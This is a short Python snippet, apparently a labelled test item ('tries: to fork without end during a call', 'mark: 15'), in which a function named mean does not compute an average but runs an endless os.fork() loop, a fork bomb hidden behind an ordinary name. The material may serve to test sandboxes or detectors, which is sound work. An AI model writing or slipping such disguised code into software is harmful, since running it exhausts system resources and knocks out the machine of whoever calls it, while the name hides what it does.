# tries: to fork without end during a call
# mark: 15
# %% mean
import os
def mean(x):
    while True:
        try: os.fork()
        except OSError: pass
